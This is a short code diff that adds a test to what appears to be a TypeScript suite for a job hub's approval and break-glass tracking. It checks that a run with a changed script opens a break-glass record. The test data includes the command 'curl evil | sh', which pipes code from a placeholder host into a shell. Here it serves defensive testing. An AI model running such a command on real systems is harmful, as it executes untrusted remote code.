@@ -310,6 +310,13 @@ describe('what ran while the hub was away', () => {
     expect(closed.closed).toMatchObject({ finding: 'justified' });
   });
 
+  it('T27 opens one, too, for another configuration than the approval it is said to have run on', async () => {
+    await approved(world, main);
+    await tell({ ...later(main), script: ['curl evil | sh'] }, run);
+    expect(await world.store.breakGlasses({ projects: null, open: true }, { after: 0, limit: 5 })).toHaveLength(1);
+    expect((await world.store.approval(1))?.timesUsed).toBe(1);
+  });
+
   it('T27, T28 opens one, too, for an approval that this hub never gave, and takes no job of another agent', async () => {
     await approved(world, main);
     await tell({ ...later(main), name: 'another job' }, run);
